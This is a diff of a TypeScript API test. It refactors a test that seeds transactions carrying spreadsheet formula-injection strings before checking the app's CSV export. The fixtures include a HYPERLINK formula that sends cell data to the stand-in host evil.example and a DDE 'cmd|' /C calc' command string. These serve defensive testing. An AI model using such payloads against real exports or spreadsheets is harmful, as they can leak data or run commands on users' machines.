@@ -8,6 +8,7 @@ import {
   type SignedUpUser,
   type TestContext,
 } from '../test-app';
+import { given } from '../support/given';
 import { fixedReceiptReader } from './user-data';
 
 let context: TestContext;
@@ -275,39 +276,25 @@ describe('stored XSS at the API level', () => {
     const exporter = await signUp(context.app, { setup: true });
     const prefixes = ['=', '+', '-', '@'];
     for (const [i, prefix] of prefixes.entries()) {
-      const response = await context.app.inject({
-        method: 'POST',
-        url: '/api/transactions',
-        headers: exporter.headers,
-        payload: {
-          name: `${prefix}HYPERLINK("http://evil.example/?"&A1,"x")`,
-          category: `${prefix}cmd|' /C calc'!A0`,
-          note: `${prefix}1+1 ","=2+2`,
-          cost: i + 1,
-          addedOn: '2026-03-01',
-          isIncome: false,
-        },
+      await given.transaction(context.app, exporter, {
+        name: `${prefix}HYPERLINK("http://evil.example/?"&A1,"x")`,
+        category: `${prefix}cmd|' /C calc'!A0`,
+        note: `${prefix}1+1 ","=2+2`,
+        cost: i + 1,
+        addedOn: '2026-03-01',
       });
-      expect(response.statusCode, response.body).toBe(201);
     }
     // A split transaction's part rows carry the parts' own categories and notes.
-    const split = await context.app.inject({
-      method: 'POST',
-      url: '/api/transactions',
-      headers: exporter.headers,
-      payload: {
-        name: '=SUM(A1:A9)',
-        category: 'Food',
-        cost: 10,
-        addedOn: '2026-03-01',
-        isIncome: false,
-        splits: [
-          { category: "+cmd|' /C calc'!A0", amount: 6, note: '-2+3' },
-          { category: '@SUM(1)', amount: 4, note: '=1' },
-        ],
-      },
+    await given.transaction(context.app, exporter, {
+      name: '=SUM(A1:A9)',
+      category: 'Food',
+      cost: 10,
+      addedOn: '2026-03-01',
+      splits: [
+        { category: "+cmd|' /C calc'!A0", amount: 6, note: '-2+3' },
+        { category: '@SUM(1)', amount: 4, note: '=1' },
+      ],
     });
-    expect(split.statusCode, split.body).toBe(201);
     const csv = await context.app.inject({
       method: 'GET',
       url: '/api/transactions/export',
